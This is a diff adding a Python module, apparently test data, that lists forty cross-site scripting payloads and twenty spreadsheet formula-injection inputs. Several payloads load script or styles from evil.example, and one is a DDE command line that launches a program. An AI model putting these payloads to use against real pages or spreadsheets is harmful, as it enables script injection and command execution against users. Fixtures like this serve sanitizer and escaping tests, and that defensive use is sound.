@@ -1,0 +1,51 @@
+"""Forty ways in which people have made pages run a script, and the ways in which a spreadsheet runs a cell."""
+
+from __future__ import annotations
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(2)</sCrIpT>",
+    "<script src=//evil.example/3.js></script>",
+    "</script><script>alert(4)</script>",
+    "</title><script>alert(5)</script>",
+    "</textarea><script>alert(6)</script>",
+    "</style><script>alert(7)</script>",
+    "--><script>alert(8)</script>",
+    "]]><script>alert(9)</script>",
+    "<img src=x onerror=alert(10)>",
+    "<img/src=`x`onerror=alert(11)>",
+    '"><img src=x onerror=alert(12)>',
+    "'><img src=x onerror=alert(13)>",
+    '" autofocus onfocus=alert(14) x="',
+    "' autofocus onfocus='alert(15)",
+    "<svg onload=alert(16)>",
+    "<svg><script>alert(17)</script></svg>",
+    "<svg><animate onbegin=alert(18) attributeName=x dur=1s>",
+    "<body onload=alert(19)>",
+    "<iframe src=javascript:alert(20)></iframe>",
+    "<iframe srcdoc='<script>alert(21)</script>'></iframe>",
+    "<a href=javascript:alert(22)>22</a>",
+    '<a href="java&#115;cript:alert(23)">23</a>',
+    "javascript:alert(24)",
+    "<details open ontoggle=alert(25)>",
+    "<video><source onerror=alert(26)></video>",
+    "<input autofocus onfocus=alert(27)>",
+    "<form><button formaction=javascript:alert(28)>28</button></form>",
+    "<math><mi xlink:href=javascript:alert(29)>29</mi></math>",
+    "<object data=javascript:alert(30)></object>",
+    "<embed src=//evil.example/31.swf>",
+    "<link rel=stylesheet href=//evil.example/32.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(33)'>",
+    "<base href=//evil.example/34/>",
+    "<template><script>alert(35)</script></template>",
+    "{{ 7*7 }}{% raw %}${alert(36)}",
+    "\\u003cscript\\u003ealert(37)\\u003c/script\\u003e",
+    "&lt;script&gt;alert(38)&lt;/script&gt;",
+    "%3Cscript%3Ealert(39)%3C/script%3E",
+    "<b><a href='//evil.example/40'>forty</a></b>\u2028alert(40)",
+)
+
+FORMULAS = (
+    "=1+1", "=HYPERLINK(\"http://evil.example\";\"x\")", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1",
+    "＝1+1", "＋1", "－1", "＠x", " =1", "\u200b=1", "'=1", "=cmd|'/c calc'!A0", "|calc", "%0A=1", ";=1", "\"=1",
+)  # fmt: skip
